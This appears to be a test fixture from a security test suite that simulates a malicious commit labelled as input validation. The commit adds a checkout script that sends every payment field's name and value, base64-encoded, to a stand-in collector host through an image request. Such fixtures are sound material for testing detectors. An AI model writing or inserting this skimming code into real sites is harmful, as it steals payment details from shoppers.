import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { COLLECTOR } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A theme's script reads the fields of a checkout while they are filled, into the address of an image.",
  write(branch) {
    branch.unsigned(RUTH, "Validate while people type", {
      "public/checkout.js": `document.querySelectorAll("#payment input").forEach((field) =>\n  field.addEventListener("change", () => {\n    new Image().src = "${COLLECTOR}/p.gif?d=" + btoa(field.name + field.value);\n  }),\n);\n`,
    });
  },
};
